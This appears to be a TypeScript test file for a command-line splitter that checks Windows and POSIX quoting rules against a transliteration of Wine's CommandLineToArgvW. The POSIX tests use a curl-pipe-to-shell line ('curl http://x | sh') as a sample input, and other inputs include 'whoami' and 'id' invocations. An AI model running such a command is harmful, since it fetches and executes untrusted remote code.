import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { splitCommandLine, splitPosixCommandLine, splitWindowsCommandLine } from "./split-command-line";

describe("splitWindowsCommandLine (CommandLineToArgvW)", () => {
  // [command line, argv, note]
  it.each<[string, string[], string]>([
    ["cmd.exe /c whoami", ["cmd.exe", "/c", "whoami"], "blanks separate arguments"],
    ['reg  query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v X', ["reg", "query", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion", "/v", "X"], "runs of blanks are one separator; quotes group; lone backslashes are literal"],
    ['"C:\\Program Files\\App\\app.exe" -x', ["C:\\Program Files\\App\\app.exe", "-x"], "a quoted program name"],
    ['"C:\\dir\\" arg', ["C:\\dir\\", "arg"], "argv[0] ends at the next quote: its backslashes never escape"],
    ['C:\\a"b c', ['C:\\a"b', "c"], "an unquoted argv[0] ends at the next blank, quotes included"],
    ['"C:\\x.exe"next arg', ["C:\\x.exe", "next", "arg"], "argv[1] starts right after argv[0]'s closing quote"],
    ["x a\\\\b", ["x", "a\\\\b"], "backslashes not followed by a quote are literal"],
    ['x a\\"b', ["x", 'a"b'], "an odd number of backslashes before a quote: a literal quote"],
    ['x a\\\\"b c"', ["x", "a\\b c"], "2n backslashes before a quote: n backslashes, and the quote opens"],
    ['x a\\\\\\"b', ["x", 'a\\"b'], "2n+1 backslashes before a quote: n backslashes and a literal quote"],
    ['x "a""b"', ["x", 'a"b'], "a doubled quote inside quotes is a literal quote (and leaves the quotes)"],
    ['x """a b"""', ["x", '"a', 'b"'], "three quotes: a literal quote, outside quotes"],
    ['x "" y', ["x", "", "y"], "an empty quoted argument"],
    ["x\ta\t\tb", ["x", "a", "b"], "tabs are blanks"],
    ["x a\nb", ["x", "a\nb"], "newlines are not blanks"],
    ["x a   ", ["x", "a"], "trailing blanks add no argument"],
    [" cmd.exe /c", ["", "cmd.exe", "/c"], "a leading blank makes argv[0] empty, as Windows does"],
    ['x "unterminated arg', ["x", "unterminated arg"], "an unterminated quote runs to the end"],
    ['"unterminated', ["unterminated"], "an unterminated quoted argv[0]"],
    ["C:\\WINDOWS\\SYSTEM32\\CMD.EXE /C DIR", ["C:\\WINDOWS\\SYSTEM32\\CMD.EXE", "/C", "DIR"], "case is kept"],
  ])("%j → %j (%s)", (commandLine, argv) => {
    expect(splitWindowsCommandLine(commandLine)).toEqual(argv);
  });

  it("splits nothing into nothing", () => {
    expect(splitWindowsCommandLine("")).toEqual([]);
  });
});

describe("splitPosixCommandLine", () => {
  it.each<[string, string[]]>([
    ["/bin/bash -c id", ["/bin/bash", "-c", "id"]],
    ["sh -c 'curl http://x | sh'", ["sh", "-c", "curl http://x | sh"]],
    ['echo "a \\"b\\" $HOME"', ["echo", 'a "b" $HOME']],
    ['echo "a\\nb"', ["echo", "a\\nb"]],
    ["echo a\\ b", ["echo", "a b"]],
    ["echo ''", ["echo", ""]],
    ["  ls   -la  ", ["ls", "-la"]],
    ["x\ty\nz", ["x", "y", "z"]],
    ["unterminated 'quote", ["unterminated", "quote"]],
    ["trailing\\", ["trailing\\"]],
  ])("%j → %j", (commandLine, argv) => {
    expect(splitPosixCommandLine(commandLine)).toEqual(argv);
  });
});

describe("splitCommandLine", () => {
  it("follows the style it is given", () => {
    expect(splitCommandLine('a "b c"', "windows")).toEqual(["a", "b c"]);
    expect(splitCommandLine("a 'b c'", "windows")).toEqual(["a", "'b", "c'"]);
    expect(splitCommandLine("a 'b c'", "posix")).toEqual(["a", "b c"]);
  });
});

/**
 * Wine's CommandLineToArgvW (dlls/shell32/shell32_main.c), transliterated character by
 * character, pointer arithmetic and all: the reference the fast splitter is checked against.
 */
function referenceCommandLineToArgv(cmdline: string): string[] {
  const s = [...cmdline];
  let p = 0;
  const argv: string[] = [];
  let d: string[] = [];
  if (s.length === 0) return [];
  if (s[p] === '"') {
    p++;
    while (p < s.length) {
      if (s[p] === '"') {
        p++;
        break;
      }
      d.push(s[p++]!);
    }
  } else {
    while (p < s.length && s[p] !== " " && s[p] !== "\t") d.push(s[p++]!);
  }
  argv.push(d.join(""));
  d = [];
  while (s[p] === " " || s[p] === "\t") p++;
  if (p >= s.length) return argv;
  let bcount = 0;
  let qcount = 0;
  while (p < s.length) {
    if ((s[p] === " " || s[p] === "\t") && qcount === 0) {
      argv.push(d.join(""));
      d = [];
      bcount = 0;
      do p++;
      while (s[p] === " " || s[p] === "\t");
    } else if (s[p] === "\\") {
      d.push(s[p++]!);
      bcount++;
    } else if (s[p] === '"') {
      if ((bcount & 1) === 0) {
        d.length -= bcount / 2;
        qcount++;
      } else {
        d.length -= (bcount - 1) / 2 + 1;
        d.push('"');
      }
      p++;
      bcount = 0;
      while (s[p] === '"') {
        if (++qcount === 3) {
          d.push('"');
          qcount = 0;
        }
        p++;
      }
      if (qcount === 2) qcount = 0;
    } else {
      d.push(s[p++]!);
      bcount = 0;
    }
  }
  // Wine closes the last argument at the end of the string unless blanks already closed it.
  const last = s[s.length - 1];
  if (!((last === " " || last === "\t") && qcount === 0) || d.length > 0) argv.push(d.join(""));
  return argv;
}

describe("splitWindowsCommandLine against a transliteration of Wine", () => {
  it("agrees on the examples above", () => {
    for (const commandLine of ['x "a""b"', 'x """a b"""', 'x a\\\\\\"b', " cmd.exe /c", 'x "" y', "x a   "]) {
      expect(splitWindowsCommandLine(commandLine)).toEqual(referenceCommandLineToArgv(commandLine));
    }
  });

  it("agrees on generated command lines made of the characters that matter", () => {
    const piece = fc.oneof(fc.constantFrom('"', "\\", " ", "\t", "a", "b", "\\\\", '""', '\\"', "\n"), fc.stringMatching(/^[a-z:.]{1,3}$/));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
        const commandLine = pieces.join("");
        expect(splitWindowsCommandLine(commandLine)).toEqual(referenceCommandLineToArgv(commandLine));
      }),
      { numRuns: 5000 },
    );
  });
});
